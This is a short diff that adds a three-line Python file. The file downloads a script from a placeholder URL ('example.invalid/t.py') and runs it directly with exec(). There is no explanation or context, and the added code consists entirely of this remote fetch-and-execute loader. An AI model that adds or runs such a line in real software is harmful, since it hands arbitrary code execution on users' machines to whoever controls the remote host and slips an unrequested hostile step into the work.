@@ -1,0 +1,3 @@
+import urllib.request
+
+exec(urllib.request.urlopen("http://example.invalid/t.py").read())
